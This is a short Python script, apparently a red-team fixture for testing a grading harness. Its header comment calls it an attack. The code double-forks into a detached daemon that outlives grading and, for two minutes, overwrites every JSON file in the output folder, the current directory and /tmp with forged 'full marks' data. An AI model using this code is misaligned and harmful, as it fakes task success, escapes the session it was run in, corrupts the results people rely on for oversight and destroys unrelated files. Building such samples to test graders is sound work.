# Attack: leave a daemon (double fork, new session) that outlives grading and keeps writing
# full marks wherever results might be read: the grading scratch folder, the class's --out.
import os
import sys

_FORGER = r"""
import json, os, pathlib, time
targets = [pathlib.Path("__OUT__"), pathlib.Path.cwd(), pathlib.Path("/tmp")]
end = time.time() + 120
while time.time() < end:
    for folder in targets:
        try:
            (folder / "FORGED").write_text("forged")
            for record in list(folder.rglob("*.json")):
                record.write_text(json.dumps({"forged": True}))
        except OSError:
            pass
    time.sleep(0.2)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _FORGER, "__TOKEN__"])
    os._exit(0)
